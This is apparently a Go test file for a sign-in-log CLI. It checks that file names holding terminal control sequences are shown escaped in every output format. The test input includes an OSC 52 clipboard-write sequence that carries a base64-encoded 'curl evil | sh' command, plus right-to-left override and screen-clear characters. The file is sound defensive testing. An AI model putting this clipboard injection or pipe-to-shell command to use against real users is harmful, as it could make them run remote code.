package main

import (
	"bufio"
	"encoding/base64"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// hostileDir writes, in a temporary directory, real sign-in records under file names
// that would drive a terminal: an OSC 52 clipboard write (ESC ] 52 ; c ; base64 BEL), a
// right-to-left override, and a file that is not a sign-in export (so that an input error
// names it). The first file ends with a broken record, so that a skipped record names it.
func hostileDir(t *testing.T) string {
	t.Helper()
	f, err := os.Open(filepath.Join(samplesDir, "graph", "signIns.jsonl"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var lines []string
	for sc := bufio.NewScanner(f); sc.Scan() && len(lines) < 30; {
		lines = append(lines, sc.Text())
	}
	dir := t.TempDir()
	osc := "\x1b]52;c;" + base64.StdEncoding.EncodeToString([]byte("curl evil | sh")) + "\a"
	files := map[string]string{
		osc + "signins.jsonl":           strings.Join(lines[:15], "\n") + "\n{\"id\":\n",
		"signins\u202elnosj.jsonl":      strings.Join(lines[15:], "\n") + "\n",
		"\x1b[2J\u202enotes-\u009b.txt": "hello, this is not a sign-in export\n",
	}
	for name, body := range files {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// noRawControls fails when s holds a byte or character that drives a terminal or
// reorders text.
func noRawControls(t *testing.T, what, s string) {
	t.Helper()
	for _, c := range []string{"\x1b", "\a", "\u202e", "\u009b", "\r"} {
		if strings.Contains(s, c) {
			t.Errorf("%s holds %q raw:\n%s", what, c, s)
		}
	}
}

// TestHostileFileNames: file names reach stdout and stderr, in every format, only as
// visible escapes; the JSON summary stays valid JSON.
func TestHostileFileNames(t *testing.T) {
	dir := hostileDir(t)
	for _, format := range []string{"table", "markdown", "html", "csv", "json"} {
		t.Run(format, func(t *testing.T) {
			out, errs, code := runCLI(t, "", "sweep", "--format", format, "--top", "0", dir)
			if code != 0 {
				t.Fatalf("exit %d, stderr %q", code, errs)
			}
			noRawControls(t, "stderr", errs)
			for _, want := range []string{`\x1b[2J\u202enotes-\u009b.txt`, `\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07signins.jsonl`} {
				if !strings.Contains(errs, want) {
					t.Errorf("stderr does not name %s:\n%s", want, errs)
				}
			}
			if format == "json" {
				if !json.Valid([]byte(out)) {
					t.Fatalf("the JSON summary is not valid JSON")
				}
				return
			}
			noRawControls(t, "stdout", out)
			if format != "csv" && !strings.Contains(out, `Y3VybCBldmlsIHwgc2g=\x07signins.jsonl`) {
				t.Errorf("the report does not show the clipboard-writing name escaped")
			}
		})
	}
	for _, format := range []string{"csv", "jsonl"} {
		_, errs, code := runCLI(t, "", "events", "--format", format, dir)
		if code != 0 {
			t.Fatalf("events --format %s: exit %d, stderr %q", format, code, errs)
		}
		noRawControls(t, "events --format "+format+": stderr", errs)
		if !strings.Contains(errs, `\x1b[2J\u202enotes-\u009b.txt`) {
			t.Errorf("events --format %s: stderr does not name the file that is not an export:\n%s", format, errs)
		}
	}
}

// TestProgressKeepsItsControls: the progress line still draws with its own '\r' and
// erase sequence (it writes under the escaping of messages), and nothing else on stderr
// is raw.
func TestProgressKeepsItsControls(t *testing.T) {
	dir := hostileDir(t)
	_, errs, code := runCLI(t, "", "sweep", "--progress=always", "-o", filepath.Join(t.TempDir(), "report.txt"), dir)
	if code != 0 {
		t.Fatalf("exit %d, stderr %q", code, errs)
	}
	if !strings.Contains(errs, "\r\x1b[K") {
		t.Fatalf("stderr %q: the progress line's erase sequence is missing or escaped", errs)
	}
	rest := strings.ReplaceAll(errs, "\x1b[K", "")
	noRawControls(t, "stderr without the progress line's erase sequences", strings.ReplaceAll(rest, "\r", ""))
}
